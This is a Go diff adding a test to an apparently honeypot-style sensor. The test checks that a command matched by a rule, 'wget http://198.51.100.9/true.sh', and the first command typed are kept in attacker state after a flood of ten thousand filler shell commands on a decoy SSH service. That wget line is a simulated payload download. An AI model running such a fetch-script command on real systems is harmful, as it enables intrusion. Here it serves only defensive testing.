@@ -405,3 +405,51 @@ func TestAnHoursCredentialsThatWorkedStay(t *testing.T) {
 		}
 	}
 }
+
+// Whoever has a shell on a decoy types ten thousand commands around the one
+// that matters: a command that a rule knows, and the first of all, stay, with
+// the login that makes them a session's coming last.
+func TestAFloodOfShellCommandsPushesOutNothingThatMatters(t *testing.T) {
+	r := newRenderer(t)
+	for where, place := range map[string]int{"before": 0, "between": flood / 2, "behind": flood} {
+		a, s := new(event.Arena), new(state.Attacker)
+		s.By(secretRank)
+		first := event.FromTime(at)
+		fold := func(ev event.Event) {
+			ev.Addr, ev.Decky, ev.Service, ev.Kind = netip.MustParseAddr("203.0.113.7"), "decky-1", "ssh", event.Interaction
+			r.Annotate(a, &ev)
+			s.Fold(a, "sensor-1", false, []*event.Event{&ev})
+		}
+		typed := func(i int, line string) {
+			fold(event.Event{Time: first + event.Time(i)*1e6, Type: "command", Proof: event.ByShell, Evidence: []event.Evidence{{Kind: event.Command, A: line}}})
+		}
+		typed(-1, "show first of all")
+		for i := range flood {
+			if i == place {
+				typed(i, "wget http://198.51.100.9/true.sh")
+			}
+			typed(i, fmt.Sprint("true ", i))
+			if i%500 == 0 {
+				wire := s.Append(nil)
+				a.Reset()
+				if err := s.Decode(wire); err != nil {
+					t.Fatal(err)
+				}
+			}
+		}
+		if place == flood {
+			typed(flood, "wget http://198.51.100.9/true.sh")
+		}
+		fold(event.Event{Time: first - 2e6, Type: "login", Proof: event.ByConnection, Evidence: []event.Evidence{
+			{Kind: event.Login, A: "root", B: "plaintext", C: "x", Outcome: event.Success}}})
+		if n := len(s.Append(nil)); n > s.Size() || s.Size() > state.MaxAttacker {
+			t.Errorf("%s: a state of %d bytes, said to be %d of at most %d", where, n, s.Size(), state.MaxAttacker)
+		}
+		doc := string(r.AppendAttacker(nil, correlate.Head{Addr: netip.MustParseAddr("203.0.113.7"), ID: "203.0.113.7", Now: at.Add(24 * time.Hour)}, s))
+		_, commands, _ := strings.Cut(doc, `"commands":[`)
+		commands, _, _ = strings.Cut(commands, `],"command"`)
+		if n := missing(commands, []string{`"command":"wget http://198.51.100.9/true.sh"`, `"command":"show first of all"`}); n > 0 {
+			t.Errorf("%s: %d of 2 are gone", where, n)
+		}
+	}
+}
